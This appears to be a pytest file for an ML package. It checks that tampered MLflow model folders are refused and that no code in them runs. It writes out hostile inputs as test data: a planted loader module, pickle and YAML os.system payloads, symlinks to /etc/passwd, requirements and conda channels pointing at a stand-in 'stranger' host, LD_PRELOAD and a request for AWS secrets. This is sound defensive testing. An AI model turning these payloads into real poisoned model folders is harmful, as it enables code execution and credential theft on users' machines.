"""Folders mlflow_model of another person: whatever was changed in them, our commands refuse them and nothing of them is run."""

from __future__ import annotations

import json
import os
import re
import shutil
import sys
from collections.abc import Callable
from importlib.metadata import version
from pathlib import Path
from typing import Any

import mlflow.pyfunc
import numpy as np
import pytest
import torch
import yaml
from commands import run_command
from mlflow.exceptions import MlflowException

import ebm_pipeline as ebm
from ebm_pipeline import cli
from ebm_pipeline.models.layers import Bernoulli
from ebm_pipeline.models.machine import assemble
from ebm_pipeline.models.storage import SavedModel, save_model
from ebm_pipeline.runs.reference import model_file
from ebm_pipeline.runs.serve import save_served
from ebm_pipeline.runs.serving.folder import REQUIREMENTS
from ebm_pipeline.support.errors import UserError

EVIL = (
    "import pathlib\npathlib.Path(__file__).with_name('called').touch()\n\ndef _load_pyfunc(path):\n    return None\n"
)
Edit = Callable[[Path], object]


@pytest.fixture(scope="module")
def genuine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What a training leaves."""
    folder = tmp_path_factory.mktemp("run")
    machine = assemble([Bernoulli.create(16), Bernoulli.create(4)], [torch.ones(16, 4) / 9])
    saved = SavedModel(machine, torch.full((16,), 0.5), (4, 4), "")
    save_model(folder / "model.h5", saved)
    save_served(folder / "mlflow_model", folder / "model.h5", torch.zeros(2, 16), "0" * 32, saved.visible)
    return folder / "mlflow_model"


def edited(name: str, value: Any) -> Edit:
    """One value of the MLmodel, by its dotted name; ... takes it out."""

    def edit(folder: Path) -> None:
        content: dict[str, Any] = yaml.safe_load((folder / "MLmodel").read_text())
        *parents, last = name.split(".")
        node = content
        for parent in parents:
            node = node[parent]
        if value is ...:
            del node[last]
        else:
            node[last] = value
        (folder / "MLmodel").write_text(yaml.safe_dump(content))

    return edit


def written(name: str, text: str) -> Edit:
    def edit(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)

    return edit


def both(*edits: Edit) -> Edit:
    def edit(folder: Path) -> None:
        for one in edits:
            one(folder)

    return edit


def link(name: str, target: str) -> Edit:
    def edit(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)

    return edit


def pipe(name: str) -> Edit:
    def edit(folder: Path) -> None:
        (folder / name).unlink()
        os.mkfifo(folder / name)

    return edit


FLAVOR = "flavors.python_function"
CODE = both(edited(f"{FLAVOR}.loader_module", "evil"), edited(f"{FLAVOR}.code", "code"), written("code/evil.py", EVIL))
ENVIRONMENT = "channels:\n- conda-forge\ndependencies:\n- {}\nname: mlflow-env\n"
STRANGERS: dict[str, Edit] = {
    # the MLmodel
    "another loader with code beside it": CODE,
    "code beside it alone": both(edited(f"{FLAVOR}.code", "code"), written("code/ebm_pipeline/__init__.py", EVIL)),
    "code in the folder itself": both(edited(f"{FLAVOR}.code", "."), written("evil.py", EVIL)),
    "code elsewhere": edited(f"{FLAVOR}.code", "../.."),
    "a loader of MLflow's that unpickles": edited(f"{FLAVOR}.loader_module", "mlflow.pyfunc.model"),
    "a loader of scikit-learn models": edited(f"{FLAVOR}.loader_module", "mlflow.sklearn"),
    "a loader of the standard library": edited(f"{FLAVOR}.loader_module", "os"),
    "a loader of this package": edited(f"{FLAVOR}.loader_module", "ebm_pipeline.runs.train"),
    "a loader that is a list": edited(f"{FLAVOR}.loader_module", ["ebm_pipeline.runs.serve"]),
    "a loader with a space": edited(f"{FLAVOR}.loader_module", "ebm_pipeline.runs.serve "),
    "no loader": edited(f"{FLAVOR}.loader_module", ...),
    "data elsewhere": edited(f"{FLAVOR}.data", "../model.h5"),
    "data at a path of this computer": edited(f"{FLAVOR}.data", "/etc/passwd"),
    "another array file": edited(f"{FLAVOR}.data", "data/other.h5"),
    "no data": edited(f"{FLAVOR}.data", ...),
    "a pickled model": both(edited(f"{FLAVOR}.python_model", "python_model.pkl"), written("python_model.pkl", "cos\nsystem\n")),
    "a pickled model, not named": written("python_model.pkl", "cos\nsystem\n"),
    "a model from code": both(edited(f"{FLAVOR}.model_code_path", "model.py"), written("model.py", EVIL)),
    "another function to predict": edited(f"{FLAVOR}.predict_fn", "__reduce__"),
    "a stream": edited(f"{FLAVOR}.streamable", True),
    "settings of the model": edited(f"{FLAVOR}.config", {"path": "/etc/passwd"}),
    "artifacts elsewhere": edited(f"{FLAVOR}.artifacts", {"x": {"path": "/etc/passwd", "uri": "http://stranger/"}}),
    "another environment": edited(f"{FLAVOR}.env", {"conda": "../conda.yaml", "virtualenv": "python_env.yaml"}),
    "an environment as a text": edited(f"{FLAVOR}.env", "conda.yaml"),
    "a second flavor": edited("flavors.sklearn", {"pickled_model": "model.pkl", "serialization_format": "pickle"}),
    "another flavor": edited("flavors", {"sklearn": {"pickled_model": "model.pkl"}}),
    "no flavor": edited("flavors", {}),
    "flavors as a list": edited("flavors", ["python_function"]),
    "variables": both(edited("env_vars", ["AWS_SECRET_ACCESS_KEY"]), written("environment_variables.txt", "HOME")),
    "metadata": edited("metadata", {"mlflow.modelIsExternal": True}),
    "resources": edited("resources", {"api_version": 1}),
    "a rule of access": edited("auth_policy", {"user": "x"}),
    "prompts": edited("prompts", ["prompts:/x/1"]),
    "a signature from type hints": edited("is_signature_from_type_hint", True),
    "type hints from an example": edited("type_hint_from_example", True),
    "a signature that is no text": edited("signature", {"inputs": [{"type": "tensor"}]}),
    "an example elsewhere": edited("saved_input_example_info.artifact_path", "/etc/passwd"),
    "an example to serve elsewhere": edited("saved_input_example_info.serving_input_path", "../../x.json"),
    "an example of another kind": edited("saved_input_example_info.type", "json_object"),
    "an id that is a path": edited("model_id", "../../x"),
    "an id that is an address": edited("run_id", "http://stranger/"),
    "an unknown key": edited("loader_module", "evil"),
    "a python object": written("MLmodel", "flavors: !!python/object/apply:os.system ['touch called']\n"),
    "an alias to itself": written("MLmodel", "flavors: &a\n  python_function: *a\n"),
    "an alias bomb": written("MLmodel", "a: &a [x,x]\nb: &b [*a,*a]\nflavors: [*b,*b]\n"),
    "brackets without end": written("MLmodel", "flavors: " + "[" * 30_000),
    "no mapping": written("MLmodel", "- python_function\n"),
    "an empty MLmodel": written("MLmodel", ""),
    "a large MLmodel": written("MLmodel", "#" * 10**6),
    "no text": lambda folder: (folder / "MLmodel").write_bytes(b"\xff\xfe\x00"),
    # the folder
    "an MLmodel that is a link": link("MLmodel", "/etc/passwd"),
    "a model.h5 that is a link": link("data/model.h5", "/etc/passwd"),
    "requirements that are a link": link("requirements.txt", "/etc/passwd"),
    "a pipe for a file": pipe("conda.yaml"),
    "a folder of code": written("code/evil.py", EVIL),
    "a module": written("sitecustomize.py", EVIL),
    "a second model": written("data/other.h5", "x"),
    "no model.h5": lambda folder: (folder / "data" / "model.h5").unlink(),
    # what an environment would install
    "requirements of others": written("requirements.txt", "ebm_pipeline==0.1.0\nevil==1.0\n"),
    "requirements from an address": written("requirements.txt", "torch @ http://stranger/torch.whl\n"),
    "an index of packages": written("requirements.txt", "--index-url http://stranger/simple\nnumpy==2.0\n"),
    "further requirements": written("requirements.txt", "-r /etc/passwd\n"),
    "conda packages of others": written("conda.yaml", ENVIRONMENT.format("evil=1")),
    "conda's pip from an address": written("conda.yaml", ENVIRONMENT.format("pip: ['git+http://stranger/x']")),
    "conda's pip with a file": written("conda.yaml", ENVIRONMENT.format("pip: ['-r /etc/passwd']")),
    "a channel": written("conda.yaml", "channels: [http://stranger]\ndependencies: []\n"),
    "commands of conda": written("conda.yaml", "variables: {LD_PRELOAD: /tmp/x.so}\n"),
    "a tool to build with": written("python_env.yaml", "python: 3.11.7\nbuild_dependencies: [evil]\n"),
    "another list of requirements": written("python_env.yaml", "dependencies: ['-r ../x.txt']\n"),
}  # fmt: skip


def strangers(genuine: Path, folder: Path, edit: Edit) -> Path:
    shutil.copytree(genuine, folder / "mlflow_model")
    edit(folder / "mlflow_model")
    return folder / "mlflow_model"


def nothing_was_run(folder: Path) -> None:
    assert not list(folder.rglob("called"))
    assert "evil" not in sys.modules
    assert not [path for path in sys.path if str(folder) in path]


@pytest.mark.parametrize("name", STRANGERS)
def test_a_folder_that_was_changed_is_refused_in_one_message(name: str, genuine: Path, tmp_path: Path) -> None:
    folder = strangers(genuine, tmp_path, STRANGERS[name])
    with pytest.raises(UserError, match="is no MLflow model as this package writes it") as caught:
        model_file("", str(folder))
    message = str(caught.value)
    assert message.startswith(str(folder))
    assert f"give its model.h5, {folder / 'data' / 'model.h5'}" in message  # what to do
    assert "\n" not in message
    assert "root:" not in message  # of /etc/passwd
    assert len(message) < 700
    nothing_was_run(tmp_path)


def test_more_than_sixty_changes_are_tried() -> None:
    assert len(STRANGERS) >= 60


@pytest.mark.parametrize(
    "edit",
    [
        lambda folder: None,
        edited(f"{FLAVOR}.loader_module", "ebm_pipeline.serving"),  # of an earlier version
        edited(f"{FLAVOR}.code", ...),
        edited("prompts", ...),
        edited("mlflow_version", "3.5.0"),
        written("registered_model_meta", "model_name: digits\nmodel_version: '1'\n"),
        lambda folder: (folder / "requirements.txt").unlink(),
    ],
    ids=[
        "as written",
        "of an earlier version",
        "no code",
        "no prompts",
        "an older MLflow",
        "registered",
        "no requirements",
    ],
)
def test_a_folder_of_this_package_is_read(edit: Edit, genuine: Path, tmp_path: Path) -> None:
    folder = strangers(genuine, tmp_path, edit)
    assert model_file("", str(folder)) == folder / "data" / "model.h5"


@pytest.mark.parametrize("command", ["ebm.load", "ebm-sample", "ebm-evaluate", "ebm-serve"])
def test_every_way_in_of_ours_checks_first(command: str, genuine: Path, tmp_path: Path) -> None:
    folder = strangers(genuine, tmp_path, CODE)
    entries = {"ebm-sample": cli.sample, "ebm-evaluate": cli.evaluate, "ebm-serve": cli.serve}
    if command == "ebm.load":
        with pytest.raises(ValueError, match="is no MLflow model as this package writes it"):
            ebm.load(folder)
    else:
        words = {"ebm-sample": "task=fantasies", "ebm-evaluate": "data=digits", "ebm-serve": "port=1"}[command]
        done = run_command(entries[command], f"run={folder}", words, output_root=tmp_path / "out")
        assert done.code == 1
        assert "is no MLflow model as this package writes it" in done.err
        assert done.err.count("\n") == 1
    nothing_was_run(tmp_path)


def test_fantasies_of_a_folder_and_ebm_load(genuine: Path, tmp_path: Path) -> None:
    words = ("task=fantasies", "task.sweeps=30", "count=8")
    done = run_command(cli.sample, f"run={genuine}", *words, output_root=tmp_path / "out")
    assert done.code == 0, done.err
    assert "no data: a model alone" in done.out
    assert ebm.load(genuine).sample(3, sweeps=30).shape == (3, 16)


def test_a_folder_has_what_mlflow_itself_writes(genuine: Path, tmp_path: Path) -> None:
    """But for times, ids, and the versions of pip and setuptools."""
    served = mlflow.pyfunc.load_model(str(genuine))
    example = np.array(json.loads((genuine / "input_example.json").read_text()), dtype=np.float32)
    mlflow.pyfunc.save_model(
        tmp_path / "mlflow",
        loader_module="ebm_pipeline.runs.serve",
        data_path=str(genuine / "data" / "model.h5"),
        signature=served.metadata.signature,
        input_example=example,
        pip_requirements=[f"{name}=={version(name)}" for name in REQUIREMENTS],
    )
    names, read = {}, {}
    for folder in (genuine, tmp_path / "mlflow"):
        names[folder] = {path.relative_to(folder).as_posix() for path in folder.rglob("*")}
        content = yaml.safe_load((folder / "MLmodel").read_text())
        for key in ("artifact_path", "model_size_bytes", "model_uuid", "run_id", "utc_time_created"):
            content.pop(key, None)
        examples = [json.loads((folder / f"{name}input_example.json").read_text()) for name in ("", "serving_")]
        conda, virtual = (yaml.safe_load((folder / name).read_text()) for name in ("conda.yaml", "python_env.yaml"))
        tools = [conda["dependencies"].pop(1), *virtual.pop("build_dependencies")]
        kinds = [re.split("[=<]", tool)[0] for tool in tools]
        read[folder] = [content, examples, conda, virtual, kinds, (folder / "requirements.txt").read_text()]
    assert len({frozenset(found) for found in names.values()}) == 1
    mine, of_mlflow = read.values()
    assert mine == of_mlflow


def test_mlflow_itself_runs_what_a_stranger_names(genuine: Path, tmp_path: Path) -> None:
    """Why docs/security.md warns of `mlflow.pyfunc.load_model`, and why our commands do not call it."""
    folder = strangers(genuine, tmp_path, CODE)
    before = list(sys.path)
    try:
        with pytest.raises(MlflowException, match="missing required predict"):  # of what it has loaded
            mlflow.pyfunc.load_model(str(folder))
        assert list(tmp_path.rglob("called"))
    finally:
        sys.path[:] = before
        sys.modules.pop("evil", None)
